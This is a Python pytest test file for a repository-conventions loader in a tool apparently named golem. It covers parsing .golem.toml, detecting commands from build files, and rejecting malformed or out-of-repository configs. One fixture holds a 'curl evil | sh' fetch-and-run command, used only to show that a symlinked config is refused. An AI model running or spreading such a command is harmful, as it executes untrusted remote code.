"""Repository conventions: from .golem.toml, or detected from the build files."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from golem.context import RepoConventions, load_conventions
from golem.core import ConfigError
from tests.context.conftest import MakeRepo

PYPROJECT = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "app"
version = "1.0"

[project.optional-dependencies]
test = ["pytest"]
dev = ["pytest", "ruff", "mypy"]

[tool.ruff]
line-length = 100

[tool.mypy]
strict = true
files = ["src"]

[tool.pytest.ini_options]
testpaths = ["tests"]
"""


def test_golem_toml_gives_commands_as_strings_or_lists_and_the_image(
    make_repo: MakeRepo,
) -> None:
    repo = make_repo(
        {
            ".golem.toml": (
                'image = "golem/python:3.11"\n'
                "[commands]\n"
                "setup = \"python3 -m pip install -e '.[dev]'\"\n"
                'lint = ["ruff check .", "  mypy  "]\n'
                'test = "python3 -m unittest -v"\n'
            ),
            "pyproject.toml": PYPROJECT,
            "Makefile": "build:\n\ttrue\n",
        }
    )

    assert load_conventions(repo) == RepoConventions(
        setup=["python3 -m pip install -e '.[dev]'"],
        lint=["ruff check .", "mypy"],
        build=[],  # the file wins entirely: the Makefile's build is not mixed in
        test=["python3 -m unittest -v"],
        image="golem/python:3.11",
        source="from .golem.toml",
    )


def test_an_empty_golem_toml_means_no_commands(make_repo: MakeRepo) -> None:
    repo = make_repo({".golem.toml": "# nothing to run\n", "Makefile": "test:\n\ttrue\n"})

    assert load_conventions(repo) == RepoConventions(source="from .golem.toml")


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("[commands\ntest = 1", "is not valid TOML: .*line 1"),
        ("[commands]\ntest = 3\n", r"commands\.test: Input should be a valid list"),
        ('[commands]\ntest = ["ok", 3]\n', r"commands\.test\.1: Input should be a valid string"),
        ('[commands]\ntests = "pytest"\n', r"commands\.tests: Extra inputs are not permitted"),
        ('[commands]\nlint = ["ruff", "  "]\n', r"commands\.lint: Value error, a command is empty"),
        ('imag = "x"\n', r"imag: Extra inputs are not permitted"),
        ('image = ""\n', r"image: String should have at least 1 character"),
    ],
)
def test_a_bad_golem_toml_is_a_config_error_that_names_the_file_and_the_problem(
    make_repo: MakeRepo, text: str, problem: str
) -> None:
    repo = make_repo({".golem.toml": text})

    with pytest.raises(ConfigError, match=problem) as caught:
        load_conventions(repo)

    assert str(repo / ".golem.toml") in caught.value.message
    assert "docs/context.md" in caught.value.message


def test_a_golem_toml_that_is_not_utf8_is_a_config_error(make_repo: MakeRepo) -> None:
    repo = make_repo({".golem.toml": ""})
    (repo / ".golem.toml").write_bytes(b"image = '\xff'\n")

    with pytest.raises(ConfigError, match="is not UTF-8 text"):
        load_conventions(repo)


def test_a_golem_toml_linked_out_of_the_repository_is_refused(
    make_repo: MakeRepo, tmp_path: Path
) -> None:
    (tmp_path / "elsewhere.toml").write_text('[commands]\ntest = "curl evil | sh"\n')
    repo = make_repo({"README.md": "x"})
    (repo / ".golem.toml").symlink_to(tmp_path / "elsewhere.toml")

    with pytest.raises(ConfigError, match="not a regular file inside the repository"):
        load_conventions(repo)


def test_pyproject_gives_dev_extras_ruff_mypy_and_pytest(make_repo: MakeRepo) -> None:
    repo = make_repo({"pyproject.toml": PYPROJECT})

    assert load_conventions(repo) == RepoConventions(
        setup=["python3 -m pip install -e '.[dev]'"],
        lint=["ruff check .", "mypy"],
        test=["python3 -m pytest"],
        source="detected: pyproject.toml (dev extras, ruff, mypy, pytest)",
    )


def test_pyproject_finds_pytest_by_a_tests_directory_and_ruff_by_its_own_file(
    make_repo: MakeRepo,
) -> None:
    repo = make_repo(
        {
            "pyproject.toml": '[project]\nname = "x"\n[build-system]\nrequires = []\n',
            "ruff.toml": "line-length = 99\n",
            "tests/test_x.py": "def test_x() -> None: ...\n",
        }
    )

    assert load_conventions(repo) == RepoConventions(
        setup=["python3 -m pip install -e ."],
        lint=["ruff check ."],
        test=["python3 -m pytest"],
        source="detected: pyproject.toml (editable install, ruff, pytest)",
    )


def test_pyproject_with_only_tool_settings_has_no_setup(make_repo: MakeRepo) -> None:
    repo = make_repo({"pyproject.toml": "[tool.mypy]\nstrict = true\n"})

    conventions = load_conventions(repo)

    assert (conventions.setup, conventions.lint, conventions.test) == ([], ["mypy ."], [])


def test_package_json_scripts_with_a_lockfile(make_repo: MakeRepo) -> None:
    scripts = {"test": "vitest run", "lint": "eslint .", "typecheck": "tsc", "build": "vite"}
    repo = make_repo({"package.json": json.dumps({"scripts": scripts}), "package-lock.json": "{}"})

    assert load_conventions(repo) == RepoConventions(
        setup=["npm ci"],
        lint=["npm run lint", "npm run typecheck"],
        build=["npm run build"],
        test=["npm test"],
        source=(
            "detected: package.json (npm ci, script lint, script typecheck, script build, "
            "script test)"
        ),
    )


def test_package_json_skips_npms_placeholder_test_and_follows_the_lockfile(
    make_repo: MakeRepo,
) -> None:
    placeholder = 'echo "Error: no test specified" && exit 1'
    scripts = {"test": placeholder, "build": "tsc"}
    repo = make_repo({"package.json": json.dumps({"scripts": scripts}), "yarn.lock": ""})

    conventions = load_conventions(repo)

    assert (conventions.setup, conventions.build, conventions.test) == (
        ["yarn install --frozen-lockfile"],
        ["yarn run build"],
        [],
    )
    no_lock = make_repo({"package.json": json.dumps({"scripts": {"test": "jest"}})}, name="no-lock")
    assert load_conventions(no_lock).setup == ["npm install"]


def test_makefile_targets_test_lint_and_build(make_repo: MakeRepo) -> None:
    makefile = (
        "VENV := .venv\n.PHONY: test lint build\n\n"
        "lint build:: deps\n\truff check .\n\n"
        "test: lint\n\tpytest\n\nclean:\n\trm -rf build\n"
    )
    repo = make_repo({"Makefile": makefile})

    assert load_conventions(repo) == RepoConventions(
        lint=["make lint"],
        build=["make build"],
        test=["make test"],
        source="detected: Makefile (target lint, target build, target test)",
    )


def test_makefile_check_is_the_test_when_there_is_no_test_target(make_repo: MakeRepo) -> None:
    repo = make_repo({"Makefile": "check:\n\t./scripts/check\n"})

    assert load_conventions(repo).test == ["make check"]


def test_makefile_goes_before_pyproject_step_by_step(make_repo: MakeRepo) -> None:
    repo = make_repo({"Makefile": "test:\n\tpytest -x\n", "pyproject.toml": PYPROJECT})

    conventions = load_conventions(repo)

    assert conventions.test == ["make test"]
    assert conventions.lint == ["ruff check .", "mypy"]
    assert conventions.source == (
        "detected: pyproject.toml (dev extras, ruff, mypy); Makefile (target test)"
    )


def test_tox_ini_gives_tox_and_its_lint_environment(make_repo: MakeRepo) -> None:
    tox = "[tox]\nenvlist = py311, lint\n\n[testenv]\ncommands = pytest\n\n[testenv:lint]\n"
    repo = make_repo({"tox.ini": tox})

    assert load_conventions(repo) == RepoConventions(
        lint=["tox -e lint"], test=["tox"], source="detected: tox.ini (env lint, tox)"
    )


def test_noxfile_gives_its_sessions(make_repo: MakeRepo) -> None:
    noxfile = (
        "import nox\n\n@nox.session(python=['3.11'])\ndef tests(session):\n"
        "    session.run('pytest')\n\n@nox.session(name='lint')\ndef run_linters(session):\n"
        "    session.run('ruff')\n"
    )
    repo = make_repo({"noxfile.py": noxfile})

    assert load_conventions(repo) == RepoConventions(
        lint=["nox -s lint"],
        test=["nox -s tests"],
        source="detected: noxfile.py (session lint, session tests)",
    )


def test_detection_only_reads_files(make_repo: MakeRepo, tmp_path: Path) -> None:
    proof = tmp_path / "ran"
    repo = make_repo(
        {
            "noxfile.py": f"open({str(proof)!r}, 'w').close()\n",
            "Makefile": f"$(shell touch {proof})\ntest:\n\ttrue\n",
            "package.json": json.dumps({"scripts": {"test": f"touch {proof}"}}),
        }
    )

    assert load_conventions(repo).test == ["make test"]
    assert not proof.exists()


def test_nothing_found_gives_empty_conventions_that_say_so(make_repo: MakeRepo) -> None:
    empty = make_repo({"README.md": "# hi\n"})
    useless = make_repo(
        {"package.json": '{"name": "x"}', "Makefile": "clean:\n\trm -rf x\n"}, name="useless"
    )

    assert load_conventions(empty) == RepoConventions(
        source=(
            "no commands found: no .golem.toml, pyproject.toml, package.json, Makefile, "
            "tox.ini or noxfile.py"
        )
    )
    assert load_conventions(useless) == RepoConventions(
        source="no commands found: no .golem.toml, and none in Makefile, package.json"
    )


def test_broken_build_files_are_passed_over(make_repo: MakeRepo) -> None:
    repo = make_repo({"pyproject.toml": "[project\n", "package.json": "{nope"})

    assert load_conventions(repo) == RepoConventions(
        source="no commands found: no .golem.toml, and none in package.json, pyproject.toml"
    )


def test_the_golem_toml_example_in_the_docs_loads(make_repo: MakeRepo) -> None:
    docs = (Path(__file__).resolve().parents[2] / "docs" / "context.md").read_text()
    example = docs.split("```toml\n", 1)[1].split("```", 1)[0]
    repo = make_repo({".golem.toml": example})

    assert load_conventions(repo) == RepoConventions(
        setup=["python3 -m pip install -e '.[dev]'"],
        lint=["ruff check .", "mypy"],
        test=["python3 -m pytest -q"],
        image="golem/python:3.11",
        source="from .golem.toml",
    )
